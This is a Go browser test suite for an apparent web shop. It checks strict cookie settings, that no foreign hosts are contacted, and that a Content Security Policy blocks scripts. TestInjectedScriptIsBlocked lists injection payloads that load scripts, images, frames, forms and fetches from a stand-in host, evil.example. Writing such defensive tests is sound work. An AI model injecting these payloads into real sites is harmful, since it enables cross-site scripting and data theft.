//go:build browser

package journey

import (
	"slices"
	"strings"
	"testing"

	"strongroom/tools/journey/chrome"
	"strongroom/tools/journey/tour"
)

// What is the same for everybody sets no cookie; cart and order set cookies of the strictest kind only (V3.3.1, V3.3.2,
// V3.3.3, V3.3.4). Nothing is ever asked of a foreign host.
func TestCookiesAndHosts(t *testing.T) {
	everyWay(t, func(t *testing.T, g *tour.Guide) {
		tour.Browse(g, func(name string) {
			for _, c := range g.Cookies() {
				t.Errorf("%s sets the cookie %s", name, c.Name)
			}
		})
		g.Buy(tour.Plain, tour.Somebody(), "paid")
		g.State("order.state_paid")
		cookies := g.Cookies()
		if len(cookies) == 0 {
			t.Error("an order without any cookie")
		}
		for _, c := range cookies {
			if !strings.HasPrefix(c.Name, "__Host-") || !c.Secure || !c.HTTPOnly || c.SameSite == "" || c.SameSite == "None" || c.Path != "/" {
				t.Errorf("a weak cookie: %+v", *c)
			}
		}
		if hosts := g.Hosts(); !slices.Equal(hosts, []string{g.Demo.Sandbox, g.Demo.Shop}) {
			t.Errorf("hosts that were asked: %v", hosts)
		}
	})
}

// A script that got into a page does not run: the policy blocks it (V3.4.3). Nor do its relatives.
func TestInjectedScriptIsBlocked(t *testing.T) {
	t.Parallel()
	turn(t)
	g := guide(t, "en", chrome.Options{Width: 1280})
	for _, path := range []string{"/", "/c/tableware", tour.WithOptions, "/search?q=bowl", "/cart", "/withdraw"} {
		g.Goto(g.To(path))
		for what, inject := range map[string]string{
			"inline script":  `const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.head.append(s)`,
			"foreign script": `const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.head.append(s)`,
			"handler":        `const b = document.createElement("button"); b.setAttribute("onclick", "window.ran = 1"); document.body.append(b); b.click()`,
			"foreign image":  `const i = new Image(); i.src = "https://evil.example/x.png"; document.body.append(i)`,
			"foreign form":   `const f = document.createElement("form"); f.action = "https://evil.example/"; f.method = "post"; document.body.append(f); f.submit()`,
			"foreign frame":  `const f = document.createElement("iframe"); f.src = "https://evil.example/"; document.body.append(f)`,
			"eval":           `setTimeout("window.ran = 1", 0)`,
			"foreign fetch":  `fetch("https://evil.example/").catch(() => {})`,
		} {
			g.Eval("(() => { "+inject+" })()", nil)
			var said []string
			for range 40 {
				g.Wait("the page", "true")
				if said = append(said, g.Troubles()...); len(said) > 0 {
					break
				}
			}
			if len(said) == 0 || !strings.Contains(strings.ToLower(strings.Join(said, " ")), "content security policy") {
				t.Errorf("%s: %s was not blocked: %v", path, what, said)
			}
		}
		if g.Bool("window.ran") {
			t.Errorf("%s: an injected script ran", path)
		}
		if !strings.HasPrefix(g.URL(), g.Demo.Shop) {
			t.Errorf("%s: led away to %s", path, g.URL())
		}
		g.Troubles()
	}
}

// The pages of the checkout and the order hold no script at all.
func TestCheckoutRunsNoScript(t *testing.T) {
	t.Parallel()
	turn(t)
	g := guide(t, "en", chrome.Options{Width: 1280})
	who, seen := tour.Somebody(), 0
	none := func(name string) {
		if strings.HasPrefix(name, "hosted") {
			return
		}
		seen++
		if g.Has("script") {
			t.Errorf("%s has a script", name)
		}
		g.Eval(`(() => { const s = document.createElement("script"); s.src = "/look/x.js"; document.head.append(s) })()`, nil)
	}
	g.Add(tour.Plain)
	tour.Forms(g, who, none)
	tour.Endings(g, who, none)
	if seen < 8 {
		t.Errorf("only %d pages were seen", seen)
	}
	blocked := 0
	for _, trouble := range g.Troubles() {
		if strings.Contains(strings.ToLower(trouble), "content security policy") {
			blocked++
		} else {
			t.Error(trouble)
		}
	}
	if blocked == 0 {
		t.Error("a script from the shop's own host would run in the checkout")
	}
}
